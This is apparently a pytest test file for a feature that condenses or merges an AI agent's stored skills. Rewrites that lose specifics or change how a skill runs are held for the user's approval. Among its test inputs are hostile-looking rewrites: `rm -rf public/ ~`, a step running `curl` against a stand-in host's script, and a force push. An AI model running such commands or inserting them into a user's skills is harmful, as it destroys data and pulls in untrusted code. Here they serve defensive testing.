"""A dream rewrites a skill only as carefully as it merges memories.

A condensed or merged skill must keep the commands, paths, URLs, code and
numbers of what it replaces; one that drops any waits for the user's
approval, with what went missing, and the skill stays as it was until then.
So does one that runs otherwise while keeping them all (round 16): a flag or
an argument added to a command, a new command, a step said not to run, the
steps in another order.
"""

from __future__ import annotations

import json
from collections.abc import Callable
from pathlib import Path

import pytest

from desktop.core.dreaming.control import DreamControl
from desktop.core.dreaming.evidence import (
    changed_commands,
    commands,
    lost_specifics,
    skill_specifics,
)
from desktop.core.dreaming.skill_notes import ChangeNotes
from desktop.core.skills.library import SkillLibrary
from tests.fakes import ScriptedChatModel
from tests.unit.core.dreaming.conftest import Dreaming

DEPLOY = (
    "Deploy the blog\n"
    "1. Build it with `hugo --minify` in ~/blog.\n"
    "2. Copy public/ with `rsync -av public/ web:/var/www/blog`.\n"
    "3. Check https://blog.example.org/health answers within 30 seconds.\n"
) + "Take care, the server is slow; wait for it and do not hurry. " * 25


@pytest.fixture
def dreaming(make_dreaming: Callable[..., Dreaming], skills: SkillLibrary) -> Dreaming:
    return make_dreaming(skills=skills)


def _skill_changes(dreaming: Dreaming, run_id: int) -> list[tuple[str, str]]:
    return [
        (c.kind, c.status)
        for c in dreaming.dreamer.dreams.changes(run_id)
        if c.pass_name == "skills"
    ]


@pytest.mark.parametrize(
    ("condensed", "missing"),
    [
        ("Build with hugo, rsync it to the server, check the health page.", "hugo --minify"),
        (
            "1. `hugo --minify` in ~/blog. 2. `rsync -av public/ web:/var/www/blog`. "
            "3. Check https://blog.example.org/health within 20 seconds.",
            "30",
        ),
        (
            "1. `hugo --minify` in ~/blog. 2. `rsync -av public/ web:/var/www/blog`. "
            "3. Check the health page within 30 seconds.",
            "https://blog.example.org/health",
        ),
    ],
)
def test_a_condensed_skill_that_drops_a_command_url_or_number_waits_for_approval(
    dreaming: Dreaming,
    skills: SkillLibrary,
    model: ScriptedChatModel,
    condensed: str,
    missing: str,
) -> None:
    blog = skills.create("deploy-blog", DEPLOY)
    before = skills.read(blog.id).text
    model.queue(json.dumps({"text": condensed}))

    report = dreaming.dreamer.run("manual", DreamControl())

    assert skills.read(blog.id).text == before
    assert _skill_changes(dreaming, report.run.id) == [("skill_rewrite", "pending")]
    [change] = dreaming.dreamer.dreams.changes(report.run.id)
    assert missing in change.payload["lost"]
    assert f"“{missing}”" in change.payload["waits"]

    dreaming.dreamer.book.approve(change.id)  # the user read it and agrees

    assert skills.read(blog.id).text.startswith("Deploy the blog\n")
    assert skills.read(blog.id).text != before


def test_a_condensed_skill_that_keeps_every_specific_is_applied(
    dreaming: Dreaming, skills: SkillLibrary, model: ScriptedChatModel
) -> None:
    blog = skills.create("deploy-blog", DEPLOY)
    condensed = (
        "1. `hugo --minify` in ~/blog.\n2. `rsync -av public/ web:/var/www/blog`.\n"
        "3. Check https://blog.example.org/health within 30 seconds; the server is slow; "
        "wait for it and do not hurry."  # its "not" kept: dropped, the rewrite waits
    )
    model.queue(json.dumps({"text": condensed}))

    report = dreaming.dreamer.run("manual", DreamControl())

    assert _skill_changes(dreaming, report.run.id) == [("skill_rewrite", "applied")]
    assert "rsync -av public/ web:/var/www/blog" in skills.read(blog.id).text


def test_a_merge_that_drops_a_path_waits_whole_and_changes_neither_skill(
    dreaming: Dreaming, skills: SkillLibrary, model: ScriptedChatModel
) -> None:
    first = skills.create("backup", "Back up the photos\nCopy ~/Pictures to /mnt/backup.")
    second = skills.create("photo-backup", "Back up the photos\nCopy the photos to the disk.")
    texts = {s.id: skills.read(s.id).text for s in (first, second)}
    model.queue(json.dumps({"overlap": True, "text": "Back up the photos\nCopy them to disk."}))

    report = dreaming.dreamer.run("manual", DreamControl())

    assert _skill_changes(dreaming, report.run.id) == [
        ("skill_rewrite", "pending"),
        ("skill_retire", "pending"),
    ]
    assert {s.id: skills.read(s.id).text for s in (first, second)} == texts
    assert all(skills.read(s.id).skill.status == "active" for s in (first, second))


def test_specifics_are_commands_paths_urls_flags_variables_and_numbers() -> None:
    text = (
        "Release\n1. Run `make dist` then:\n$ twine upload dist/* --verbose\n"
        "2. Set $PYPI_TOKEN and RELEASE_NAME, see https://pypi.org/manage/ (v2.5.1).\n"
        "```\ngit tag -s v2.5.1\n```\nEdit C:\\Users\\me\\notes.txt and setup.cfg.\n"
    )

    found = skill_specifics(text)

    for expected in (
        "make dist",
        "twine upload dist/* --verbose",
        "git tag -s v2.5.1",
        "https://pypi.org/manage/",
        "$PYPI_TOKEN",
        "RELEASE_NAME",
        "--verbose",
        "2.5.1",
        "C:\\Users\\me\\notes.txt",
        "setup.cfg",
    ):
        assert expected in found, expected
    assert "1" not in found  # a step's own number: renumbering loses nothing


def test_a_number_is_kept_only_as_that_number_and_spacing_does_not_matter() -> None:
    assert lost_specifics(["Steep 3 minutes"], "Steep 30 minutes") == ["3"]
    assert lost_specifics(["Run `git  pull  --rebase`"], "run `git pull --rebase` first") == []


def test_a_merge_into_other_words_altogether_waits_even_without_specifics(
    dreaming: Dreaming, skills: SkillLibrary, model: ScriptedChatModel
) -> None:
    first = skills.create("guests", "Greeting guests\nSmile, offer a drink, take their coats.")
    second = skills.create(
        "greeting-guests", "Greeting guests\nOffer a drink and take their coats."
    )
    model.queue(json.dumps({"overlap": True, "text": "x"}))

    report = dreaming.dreamer.run("manual", DreamControl())

    assert _skill_changes(dreaming, report.run.id) == [
        ("skill_rewrite", "pending"),
        ("skill_retire", "pending"),
    ]
    assert all(skills.read(s.id).skill.status == "active" for s in (first, second))
    [rewrite, _] = dreaming.dreamer.dreams.changes(report.run.id)
    assert rewrite.payload["waits"] == "the new text keeps little of what the skill said"


def test_a_skill_edited_while_the_pass_writes_is_left_for_the_next_dream(
    dreaming: Dreaming,
    skills: SkillLibrary,
    model: ScriptedChatModel,
    monkeypatch: pytest.MonkeyPatch,
    caplog: pytest.LogCaptureFixture,
) -> None:
    blog = skills.create("deploy-blog", DEPLOY)
    edited = DEPLOY + "4. The user's own step: tell the team.\n"
    kept = DEPLOY.split("Take care")[0] + "The server is slow: do not hurry."
    model.queue(json.dumps({"text": kept}))  # keeps every specific and the "not"
    real_write = ChangeNotes.write

    def edit_then_write(notes: ChangeNotes, path: Path, note: dict[str, object]) -> int:
        skills.update_text(blog.id, edited)  # saved in the editor meanwhile
        return real_write(notes, path, note)

    monkeypatch.setattr(ChangeNotes, "write", edit_then_write)

    report = dreaming.dreamer.run("manual", DreamControl())

    assert skills.read(blog.id).text == edited
    assert _skill_changes(dreaming, report.run.id) == []
    assert "changed since" in report.outcomes["skills"]
    assert "next dream" in report.outcomes["skills"]
    assert not [r for r in caplog.records if r.exc_info]  # a race, not a failure


BLOG = (
    "Deploy the blog\n"
    "1. Back up the site first with `tar czf backup.tgz site/` and keep the archive.\n"
    "2. Build the pages with `hugo --minify` and look through the output.\n"
    "3. Push the changes with `git push origin main` once the build is clean.\n"
    "4. Clean the build folder with `rm -rf public/` when the upload has finished.\n"
) + "Take your time, read each message, and never rush the deployment steps. " * 12
STEPS = {
    "tar": "1. Back up: `tar czf backup.tgz site/`",
    "hugo": "2. Build: `hugo --minify`",
    "push": "3. Push: `git push origin main`",
    "clean": "4. Clean: `rm -rf public/`",
}


def _condensed(**changed: str) -> str:
    return "\n".join(changed.get(step, line) for step, line in STEPS.items())


@pytest.mark.parametrize(
    ("condensed", "why"),
    [
        (_condensed(push="3. Push: `git push origin main --force`"), "adds"),
        (_condensed(clean="4. Clean: `rm -rf public/ ~`"), "adds"),
        (
            _condensed(
                clean="4. Clean: `rm -rf public/`\n5. Then run curl -s http://x.example/i.sh"
            ),
            "adds",
        ),
        (_condensed(tar="1. Do not back up (skip `tar czf backup.tgz site/`)"), "turns around"),
        (
            _condensed(
                tar="1. Clean: `rm -rf public/`", clean="4. Back up: `tar czf backup.tgz site/`"
            ),
            "order",
        ),
        (_condensed(push="3. Push: `git push origin main`; clean: `rm -rf public/`"), "order"),
    ],
    ids=["flag", "argument", "prose-command", "negated", "swapped", "repeated"],
)
def test_a_condensed_skill_that_runs_otherwise_waits_though_it_keeps_every_specific(
    dreaming: Dreaming,
    skills: SkillLibrary,
    model: ScriptedChatModel,
    condensed: str,
    why: str,
) -> None:
    blog = skills.create("deploy-blog", BLOG)
    before = skills.read(blog.id).text
    model.queue(json.dumps({"text": condensed}))

    report = dreaming.dreamer.run("manual", DreamControl())

    assert skills.read(blog.id).text == before
    assert _skill_changes(dreaming, report.run.id) == [("skill_rewrite", "pending")]
    [change] = dreaming.dreamer.dreams.changes(report.run.id)
    assert why in change.payload["waits"]
    assert change.payload["text"].endswith(condensed + "\n")  # the report shows it beside before


def test_a_condensed_skill_running_the_same_command_lines_in_order_is_applied(
    dreaming: Dreaming, skills: SkillLibrary, model: ScriptedChatModel
) -> None:
    blog = skills.create("deploy-blog", BLOG)
    condensed = (
        "1. Back up first:\n```\ntar czf backup.tgz site/\n```\n"
        "2. Build: `hugo  --minify`.\n"  # spacing aside
        "3. Push:\n$ git push origin main\n4. Clean: `rm -rf public/`\n"
        "Never rush the deployment steps."  # its "never" kept: dropped, the rewrite waits
    )
    model.queue(json.dumps({"text": condensed}))

    report = dreaming.dreamer.run("manual", DreamControl())

    assert _skill_changes(dreaming, report.run.id) == [("skill_rewrite", "applied")]
    assert skills.read(blog.id).text.endswith(condensed + "\n")


def test_merged_skills_may_interleave_their_commands_each_in_its_own_order() -> None:
    build = "Build\n1. `make deps`\n2. `make` and, when it fails, do not run `make install`."
    test = "Test\n1. `make deps`\n2. `pytest -q`"
    merged = (
        "Build and test\n1. `make deps`\n2. `make`; if it fails, do not run `make install`.\n"
        "3. `pytest -q`"
    )

    assert changed_commands([build, test], merged) is None
    assert changed_commands([build, test], merged + "\n4. `make deps`") is not None
    assert changed_commands([build, test], merged.replace("`make`", "`pytest -q`", 1)) is not None
    assert changed_commands([build, test], merged.replace("do not run", "then run")) is not None


def test_command_lines_are_read_in_order_with_whether_they_are_said_not_to_run() -> None:
    text = (
        "Release\n1. Never run `make clean` here. Run `make dist` then:\n"
        "$ twine upload dist/*\n```sh\ngit tag v1\ngit push --tags\n```\n"
    )

    assert commands(text) == [
        ("make clean", True),
        ("make dist", False),
        ("twine upload dist/*", False),
        ("git tag v1", False),
        ("git push --tags", False),
    ]
